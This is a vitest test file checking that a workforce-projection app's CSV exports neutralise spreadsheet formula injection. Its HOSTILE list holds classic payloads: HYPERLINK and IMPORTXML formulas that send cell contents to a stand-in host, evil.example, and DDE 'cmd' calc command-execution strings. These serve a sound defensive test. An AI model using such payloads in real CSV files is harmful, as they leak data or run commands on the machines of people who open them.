/**
 * Formula injection in CSV files: text that starts with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is run as a formula when a spreadsheet opens the file. Every CSV that the
 * command line or the app writes goes through one field writer (model/result/csv-field.ts),
 * which puts a `'` before such text and quotes it, and leaves numbers as they are.
 *
 * Each case writes a CSV with hostile text and reads it back with the app's own CSV reader
 * (app/files/csv.ts): the text comes back whole, with at most a leading `'`, and no cell
 * starts with a formula character.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { run } from '../../cli/run.ts';
import { parseCsv } from '../../app/files/csv.ts';
import { resultToCsv as appResultToCsv } from '../../app/files/scenario-file.ts';
import { populationToCsv, stockToCsv } from '../../app/files/table-csv.ts';
import { csvField, csvLine, startsLikeFormula } from '../../model/result/csv-field.ts';
import { CSV_HEADER, resultToCsv } from '../../model/result/result-csv.ts';
import type { HwfResult } from '../../model/result/result.ts';
import { parseScenarioJson } from '../../model/scenario/parse.ts';
import { simulate } from '../../model/projection/simulate.ts';
import type { PopulationInline } from '../../model/scenario/types.ts';

const MINIMAL = join(import.meta.dirname, '../../app/data/examples/minimal.json');
const dir = mkdtempSync(join(tmpdir(), 'hwf-csv-injection-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The characters a spreadsheet takes as the start of a formula. */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

/** Hostile texts: each prefix before a formula, and the classic payloads. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!E2",
  '=IMPORTXML(CONCAT("https://evil.example/?", A1:B9), "//a")',
  '"=1+1"',
  ...PREFIXES.map((p) => `${p}x`),
  ...PREFIXES,
];

/** The cells of a CSV text, row by row (the header included). */
function cells(text: string): string[][] {
  const table = parseCsv(text, { separator: ',' });
  return [table.header, ...table.records.map((r) => r.fields)];
}

/** A field's text as written: the original, or the original with one leading `'`. */
function expectNeutral(written: string, original: string): void {
  expect(written === original || written === `'${original}`).toBe(true);
  if (startsLikeFormula(original)) expect(written).toBe(`'${original}`);
  expect(startsLikeFormula(written)).toBe(false);
}

function expectNoFormulaCell(text: string): void {
  for (const row of cells(text)) {
    for (const cell of row) {
      // A number is not a formula: -12.5 is written as it is, and read as a number.
      if (/^-?\d+(\.\d+)?(e[-+]?\d+)?$/.test(cell)) continue;
      expect(startsLikeFormula(cell), JSON.stringify(cell)).toBe(false);
    }
  }
}

/** Text made of formula characters, separators, quotes and line breaks, and any text. */
const textArb = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({
    unit: fc.constantFrom(...PREFIXES, ',', '"', '\n', '\r\n', ' ', "'", 'a', '1', '(', ')'),
  }),
  fc.tuple(fc.constantFrom(...PREFIXES), fc.string()).map(([p, s]) => p + s),
);

/** A real result of the minimal example (deterministic: one run). */
function minimalResult(): HwfResult {
  const parsed = parseScenarioJson(readFileSync(MINIMAL, 'utf8'));
  if (!parsed.ok) throw new Error('minimal.json does not parse');
  return simulate(parsed.scenario, { deterministic: true });
}

function withIds(result: HwfResult, ids: readonly string[]): HwfResult {
  const base = result.professions[0];
  return {
    ...result,
    professions: ids.map((id) => ({ ...base, id, name: id })),
  };
}

describe('csvField, the one field writer', () => {
  it('puts a quote before every text that starts like a formula, and quotes it', () => {
    for (const text of HOSTILE) {
      const field = csvField(text);
      if (startsLikeFormula(text)) expect(field.startsWith(`"'`), JSON.stringify(text)).toBe(true);
      const [, [back]] = cells(`h,x\n${field},x`);
      expectNeutral(back, text);
    }
  });

  it('property: any text is read back whole, with at most a leading quote', () => {
    fc.assert(
      fc.property(fc.array(textArb, { minLength: 2, maxLength: 5 }), (texts) => {
        const back = parseCsv(`${csvLine(texts.map((_, i) => `h${i}`))}\n${csvLine(texts)}\n`, {
          separator: ',',
        }).records;
        expect(back).toHaveLength(1);
        expect(back[0].fields).toHaveLength(texts.length);
        back[0].fields.forEach((field, i) => expectNeutral(field, texts[i]));
      }),
      { numRuns: 1000 },
    );
  });

  it('property: numbers are never changed (-12.5 stays a number)', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(-0.000001)).toBe('-0.000001');
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (n) => {
        expect(csvField(n)).toBe(String(n));
        expect(Number(csvField(n))).toBe(n === 0 ? 0 : n);
      }),
      { numRuns: 1000 },
    );
    expect([NaN, Infinity, -Infinity, null, undefined].map(csvField)).toEqual(['', '', '', '', '']);
  });
});

describe('the result CSV (command line and the app download)', () => {
  const result = minimalResult();

  it('every formula prefix in a profession id is neutralised; the numbers stay numbers', () => {
    for (const toCsv of [resultToCsv, appResultToCsv]) {
      const text = toCsv(withIds(result, HOSTILE));
      expectNoFormulaCell(text);
      const rows = cells(text);
      expect(rows[0]).toEqual([...CSV_HEADER]);
      const perProfession = (rows.length - 1) / HOSTILE.length;
      HOSTILE.forEach((id, k) => {
        const mine = rows.slice(1 + k * perProfession, 1 + (k + 1) * perProfession);
        for (const row of mine) {
          expect(row).toHaveLength(5);
          expectNeutral(row[0], id);
        }
        // The gap is negative in some years: written as a plain number, the same as the JSON.
        const gapMeans = mine.filter((r) => r[1] === 'gap' && r[3] === 'mean').map((r) => r[4]);
        expect(gapMeans).toEqual(result.professions[0].gap.mean.map((v) => String(v)));
      });
    }
  });

  it('property: generated profession ids never reach a cell as a formula', () => {
    fc.assert(
      fc.property(fc.array(textArb, { minLength: 1, maxLength: 3 }), (ids) => {
        const text = resultToCsv(withIds(result, ids));
        expectNoFormulaCell(text);
        const firstColumn = cells(text)
          .slice(1)
          .map((r) => r[0]);
        const perProfession = firstColumn.length / ids.length;
        firstColumn.forEach((cell, i) => expectNeutral(cell, ids[Math.floor(i / perProfession)]));
      }),
      { numRuns: 60 },
    );
  });
});

describe('the import templates (stock and population tables)', () => {
  it('a hostile year or value in a draft never becomes a formula; negative numbers stay', () => {
    const population = {
      ages: { min: 0, max: 2 },
      years: ['=1+1', 2025, '@SUM(A1)'],
      female: [
        [-12.5, 1, 2],
        ['=HYPERLINK("x")', 1, 2],
        [1, 2, 3],
      ],
      male: [
        [1, 2, 3],
        [1, '-1+1', 3],
        [1, 2, 3],
      ],
    } as unknown as PopulationInline;
    const text = populationToCsv(population);
    expectNoFormulaCell(text);
    const rows = cells(text);
    expect(rows[1]).toEqual(["'=1+1", '0', 'F', '-12.5']);
    expect(rows.some((r) => r[0] === "'@SUM(A1)")).toBe(true);
    // A value that is not a number is an empty cell, as before.
    expect(rows.filter((r) => r[0] === '2025').map((r) => r[3])).toEqual([
      '',
      '1',
      '2',
      '1',
      '',
      '3',
    ]);
  });

  it('the stock template writes numbers as they are', () => {
    const text = stockToCsv({ female: [-12.5, 3], male: [1e-7, -0] }, { min: 20, max: 21 });
    expect(text).toBe('age,sex,value\n20,F,-12.5\n21,F,3\n20,M,1e-7\n21,M,0\n');
    expectNoFormulaCell(text);
  });
});

describe('hwf simulate --format csv', () => {
  function cli(argv: string[]): { code: number; stdout: string; stderr: string } {
    let stdout = '';
    let stderr = '';
    const code = run(argv, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) });
    return { code, stdout, stderr };
  }

  function scenarioWithId(id: string): string {
    const scenario = JSON.parse(readFileSync(MINIMAL, 'utf8')) as {
      professions: { id: string; name: string }[];
    };
    scenario.professions[0].id = id;
    scenario.professions[0].name = id;
    const file = join(dir, `scenario-${Math.random().toString(36).slice(2)}.json`);
    writeFileSync(file, JSON.stringify(scenario));
    return file;
  }

  it('an id that starts with "-" (a valid id) is written as text, to stdout and --out', () => {
    const file = scenarioWithId('-nurses');
    const out = join(dir, 'result.csv');
    const args = ['simulate', file, '--deterministic', '--format', 'csv', '--engine', 'reference'];
    const printed = cli(args);
    expect(printed.code).toBe(0);
    expect(cli([...args, '--out', out]).code).toBe(0);
    for (const text of [printed.stdout, readFileSync(out, 'utf8')]) {
      expectNoFormulaCell(text);
      const column = cells(text)
        .slice(1)
        .map((r) => r[0]);
      expect(column.length).toBeGreaterThan(0);
      expect(new Set(column)).toEqual(new Set(["'-nurses"]));
    }
  });

  it('every hostile id is refused or written as text, never as a formula', () => {
    for (const id of HOSTILE) {
      const out = cli([
        'simulate',
        scenarioWithId(id),
        '--deterministic',
        '--format',
        'csv',
        '--engine',
        'reference',
      ]);
      expect(out.stderr).not.toMatch(/^\s+at /m);
      if (out.code === 0) {
        expectNoFormulaCell(out.stdout);
        for (const row of cells(out.stdout).slice(1)) expectNeutral(row[0], id);
      } else {
        // Refused by the validation: a message, exit 2, and no CSV at all.
        expect(out.code).toBe(2);
        expect(out.stdout).toBe('');
      }
    }
  });
});
